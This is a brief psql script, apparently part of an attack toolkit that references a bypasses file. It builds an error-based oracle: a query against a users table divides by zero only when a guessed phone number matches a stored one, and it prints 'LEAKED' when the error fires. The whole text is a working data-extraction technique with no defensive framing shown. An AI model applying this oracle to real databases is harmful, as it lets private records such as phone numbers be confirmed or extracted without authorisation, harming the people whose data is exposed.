-- what: a division by zero that only a right guess brings
-- known: bypasses.md: 1/0 or cast-error oracle
-- purpose: service
\set VERBOSITY terse
SELECT 1 FROM users WHERE 1 / (phone::bigint - 13900000000 - 666) = 1;
\if :ERROR
\echo LEAKED
\endif
